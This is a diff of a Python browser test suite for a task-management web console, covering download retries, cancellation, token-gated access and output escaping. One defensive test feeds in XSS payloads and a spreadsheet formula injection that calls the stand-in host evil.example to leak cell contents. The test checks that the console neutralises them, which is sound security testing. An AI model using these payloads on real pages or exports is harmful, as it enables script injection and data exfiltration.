@@ -17,6 +17,8 @@ from stories import API, Stories
 WIDE, NARROW = (1440, 900), (360, 740)
 # `slow` is an index that takes its time.
 STORES = '{"slow": "s3vectors://demo/embed-456?objects_per_second=1", "*": "s3vectors://demo/{embedding_model_id}"}'
+# What the page shows without the right token.
+REFUSED = "Open the address that the program printed"
 # Every rule of axe, those of best practice among them.
 AXE = """
     const {violations} = await axe.run(document, {resultTypes: ["violations"]});
@@ -174,12 +176,6 @@ class Console(Stories):
         self.expect("the CSV has every failure", [row[0] for row in rows] == ["object_id", *failed], rows[:3])
         lines = [json.loads(line) for line in self.download("jsonl", "large-failed.jsonl").splitlines()]
         self.expect("the JSON Lines have every failure", [line["object_id"] for line in lines] == failed, lines[:3])
-        with Proxy(self.api) as proxy:
-            self.open("?task=large", proxy.url)
-            self.shows("#range", "1 to 1,000 of")
-            proxy.refusals = [(503, {"Retry-After": "1"})]
-            lines = self.download("jsonl", "large-failed.jsonl").splitlines()
-            self.expect("a busy server delays a download, and does not end it", len(lines) == len(failed) and not proxy.refusals, len(lines))
         self.open("?task=large")
         self.browser.one('#outcomes [data-outcome="deleted"]').click()
         self.shows("#range", f" of {20_000 - len(failed):,}")
@@ -207,6 +203,67 @@ class Console(Stories):
         file.unlink()
         return content
 
+    def a_download_waits_and_stops_and_never_mixes_two_attempts(self):
+        ids = [f"absent-{number}" for number in range(1, 1_501)]
+        self.create(task_id="file", object_ids=ids)
+        self.ended("file")
+        with Proxy(self.api) as proxy:
+            self.open("?task=file", proxy.url)
+            self.shows("#range", "1 to 1,000 of 1,500")
+            proxy.refuse((503, {}), (503, {"Retry-After": "1"}), to="outcome=failed")
+            lines = self.download("jsonl", "file-failed.jsonl").splitlines()
+            self.expect("a busy server delays a download, and does not end it", [json.loads(line)["object_id"] for line in lines] == ids, len(lines))
+            self.expect("both refusals were met", not proxy.refusals, proxy.refusals)
+
+            proxy.refuse((503, {"Retry-After": "60"}), to="outcome=failed")
+            self.browser.one("#csv").click()
+            self.browser.wait("the server is busy", lambda: not proxy.refusals)
+            self.expect("the page says how far it is", self.text("#download-text") == "0 of 1,500 objects", self.text("#download-text"))
+            self.browser.one("#download-stop").click()
+            self.shows("#objects-note", "The download was stopped.")
+            self.browser.wait("its bar goes", lambda: not self.seen("#download"))
+            self.expect("the focus of the button goes to the heading", self.focus() == "objects-title", self.focus())
+
+            proxy.change = self.restarts_between_pages
+            self.browser.one("#csv").click()
+            self.shows("#objects-note", "The download ended: the task was restarted meanwhile. Begin again.")
+            kept = [file.name for file in self.processes.folder.glob("file-failed*")]
+            self.expect("neither leaves a file", kept == [], kept)
+
+    def restarts_between_pages(self, path, body):
+        """Restarts the task after each first page of a download."""
+        if "outcome=failed" in path and "cursor" not in path:
+            self.call("PUT", "restart", task_id="file")
+        return body
+
+    def a_row_goes_when_its_task_does(self):
+        for name in ("stays", "expires"):
+            self.create(task_id=name)
+            self.ended(name)
+        with Proxy(self.api) as proxy:
+            self.open(origin=proxy.url)
+            self.browser.wait("both are shown", lambda: self.row("stays") and self.row("expires"))
+            self.browser.run("[...document.querySelectorAll('#rows a')].find(link => link.textContent === 'expires').focus()")
+            # As of a list that lags, and of a task that has expired.
+            proxy.change = without("stays", "expires")
+            proxy.gone = {"expires"}
+            self.browser.wait("the row of the expired task goes", lambda: not self.row("expires"))
+            self.expect("the focus goes to the heading", self.focus() == "list-title", self.focus()[:80])
+            self.expect("a row that only the list lacks stays", self.row("stays"))
+            self.open("?task=expires", proxy.url)
+            self.shows("#task-problem", "Task not found.")
+
+    def the_ages_are_those_of_the_server(self):
+        self.create(task_id="young")
+        for hours in (-1, 1):
+            wrong = f"{{ const now = Date.now; Date.now = () => now() + {hours} * 3600_000; }}"
+            script = self.browser.devtools("Page.addScriptToEvaluateOnNewDocument", source=wrong)
+            self.open()
+            self.browser.devtools("Page.removeScriptToEvaluateOnNewDocument", **script)
+            self.browser.wait("its row is shown", lambda: self.row("young"))
+            age = self.browser.run("return [...document.querySelectorAll('#rows tr')].find(row => row.querySelector('a').textContent === 'young').querySelector('time').textContent")
+            self.expect(f"by a clock that is wrong by {hours} h a new task is new", re.fullmatch("[0-9]+ s", age) and age != "0 s", age)
+
     def no_text_of_a_caller_is_html(self):
         task_id = "<img/src=x/onerror=window.isHurt=1>&lt;b&gt;"
         objects = ["<script>window.isHurt=1</script>", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a "quoted", one', "-1+1"]
@@ -229,7 +286,7 @@ class Console(Stories):
         guarded = [objects[0], "'" + objects[1], objects[2], "'" + objects[3]]
         self.expect("a spreadsheet computes none of the ids", [row[0] for row in rows[1:]] == guarded, rows)
         self.expect("the CSV has the line ends of RFC 4180", text.count("\r\n") == 5 == text.count("\n"), text)
-        self.expect("the page says so", "2 of them begin with" in self.text("#objects-note"), self.text("#objects-note"))
+        self.expect("the page says so", "In 2 of them a ' stands before" in self.text("#objects-note"), self.text("#objects-note"))
         lines = self.download("jsonl", f"{name}-failed.jsonl").splitlines()
         self.expect("the JSON Lines have the ids unchanged", [json.loads(line)["object_id"] for line in lines] == objects, lines)
 
@@ -246,7 +303,7 @@ class Console(Stories):
         self.expect("the focus is on the task's heading", self.focus() == "task-title", self.focus())
         self.tab_to("cancel")
         self.press(Keys.ENTER)
-        self.shows("#dialog-effect", "100 of its objects remain")
+        self.shows("#dialog-effect", "100 objects will not be deleted")
         self.expect("the focus is in the dialog", self.focus() == "dialog-leave", self.focus())
         self.inspect("a dialog")
         self.press(Keys.ESCAPE)
@@ -270,7 +327,7 @@ class Console(Stories):
         self.browser.wait("the dialog is open", lambda: self.seen("#dialog"))
         self.expect("it says what is tried again", self.text("#dialog-effect") == "Tries the 1 object again that was not deleted. 2 stay deleted.", self.text("#dialog-effect"))
         self.browser.one("[value=all]").click()
-        self.expect("it says what `all` does", "Tries all 3 objects again, the 2 deleted before among them" in self.text("#dialog-effect"), self.text("#dialog-effect"))
+        self.expect("it says what `all` does", self.text("#dialog-effect") == "Tries every object again (3). 2 were deleted before; what was inserted under their ids since then is deleted too.", self.text("#dialog-effect"))
         self.call("PUT", "restart", task_id="again")
         self.ended("again")
         self.browser.one("#dialog-confirm").click()
@@ -360,11 +417,68 @@ class Console(Stories):
     def lists(self, proxy):
         return [path for _, path in proxy.calls if path.startswith(f"{API}list")]
 
+    def dtask_console_lets_in_who_has_its_token_and_passes_calls_on(self):
+        data = self.processes.folder / "tasks-behind-dtask"
+        port = free_port()
+        self.start("--data", data, name="behind-dtask", port=port)
+        self.create(task_id="again")
+        self.ended("again")
+        self.create(task_id="stops", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(400, 500)])
+        own_port = free_port()
+        address = self.start_dtask(own_port)
+        origin = address.partition("/#")[0]
+        self.open(origin=origin)
+        self.shows("#connection", REFUSED)
+        self.expect("without the token the page shows no task", not self.seen("#rows tr"))
+        self.browser.run("window.isSamePage = true")
+        self.browser.open(address)
+        self.browser.wait("the token lets the page in", lambda: self.row("again"))
+        self.expect("the token leaves the address", self.browser.driver.current_url == f"{origin}/", self.browser.driver.current_url)
+        self.open("?task=again", origin)
+        self.shows("#summary", "done")
+        self.browser.one("#restart").click()
+        self.shows("#dialog-effect", "1 object")
+        self.browser.one("#dialog-confirm").click()
+        self.shows("#fields", "Attempt2")
+        self.expect("the service has restarted it", self.call("GET", "info", task_id="again")["attempt"] == 2)
+        self.open("?task=stops", origin)
+        self.browser.wait("it can be canceled", lambda: self.seen("#cancel"))
+        self.browser.one("#cancel").click()
+        self.shows("#dialog-effect", "Stops the task")
+        self.browser.one("#dialog-confirm").click()
+        self.shows("#summary", "canceled")
+        self.expect("the service has canceled it", self.call("GET", "info", task_id="stops")["status"] == "canceled")
+        self.open(origin=origin)
+        self.browser.wait("its row is canceled", lambda: "canceled" in (self.row("stops") or ""))
+        self.browser.run("window.isSamePage = true")
+        self.processes.stop("behind-dtask")
+        self.shows("#connection", f"Cannot reach {self.api}/")
+        away = self.text("#connection")
+        self.expect("the page names the status and ends its sentences once", "(status 502, since" in away and ".." not in away and ". (" not in away, away)
+        self.expect("the rows stay", self.row("again") and self.row("stops"))
+        self.start("--data", data, name="behind-dtask", port=port)
+        self.browser.wait("the service is back", lambda: not self.text("#connection"))
+        self.processes.stop("dtask")
+        self.shows("#connection", "Cannot reach the server since")
+        address = self.start_dtask(own_port)
+        self.shows("#connection", REFUSED)
+        self.expect("the rows stay when another token is wanted", self.row("again"))
+        self.browser.open(address)
+        self.browser.wait("the new token lets the same page in", lambda: not self.text("#connection"))
+        self.expect("the page was never loaded again", self.browser.run("return window.isSamePage") is True)
+        self.processes.stop("dtask")
+        self.processes.stop("behind-dtask")
+
+    def start_dtask(self, port):
+        """Starts `dtask console` before the runner, and returns the address that it prints."""
+        command = [build() / "dtask", "--api", self.api, "console", "--port", str(port)]
+        return re.search(r"^Console (\S+)", self.processes.start("dtask", command, lambda text: "Console" in text), re.M)[1]
+
     def the_page_waits_as_it_is_told_and_while_nobody_sees_it(self):
         with Proxy(self.api) as proxy:
             self.open(origin=proxy.url)
             self.browser.wait("the tasks are shown", lambda: self.seen("#rows tr"))
-            proxy.refusals = [(429, {"Retry-After": "4"})]
+            proxy.refuse((429, {"Retry-After": "4"}))
             self.shows("#connection", "Too many calls at once; try again (status 429")
             refused = proxy.calls[-1][0]
             self.browser.wait("the page tries again", lambda: not self.text("#connection"))
@@ -418,7 +532,7 @@ class Console(Stories):
             self.expect("what somebody reads does not move", abs(moved) < 1, moved)
             self.hide(True)
             self.create_all([f"late-{number:03}" for number in range(150)])
-            proxy.change = without_the_oldest_of_them
+            proxy.change = without(*(f"late-{number:03}" for number in range(50)))
             self.hide(False)
             self.browser.wait("the newest tasks are shown", lambda: self.row("late-149"))
             proxy.change = lambda path, body: body
@@ -464,16 +578,24 @@ class Console(Stories):
         filters_are_in_the_address,
         of_two_states_of_a_task_the_newer_one_stays,
         what_lags_never_replaces_what_is_newer,
+        dtask_console_lets_in_who_has_its_token_and_passes_calls_on,
         the_page_waits_as_it_is_told_and_while_nobody_sees_it,
+        a_download_waits_and_stops_and_never_mixes_two_attempts,
+        a_row_goes_when_its_task_does,
+        the_ages_are_those_of_the_server,
         twenty_thousand_objects_page_by_page,
         the_list_with_tasks,
         a_thousand_tasks,
     )
 
 
-def without_the_oldest_of_them(path, body):
-    """A list that does not yet have some of the new tasks."""
-    page = json.loads(body)
-    if path.startswith(f"{API}list"):
-        page["tasks"] = [task for task in page["tasks"] if task["id"] not in {f"late-{number:03}" for number in range(50)}]
-    return json.dumps(page).encode()
+def without(*task_ids):
+    """A list that does not have some tasks, as `change` of a proxy."""
+
+    def change(path, body):
+        page = json.loads(body)
+        if path.startswith(f"{API}list"):
+            page["tasks"] = [task for task in page["tasks"] if task["id"] not in task_ids]
+        return json.dumps(page).encode()
+
+    return change
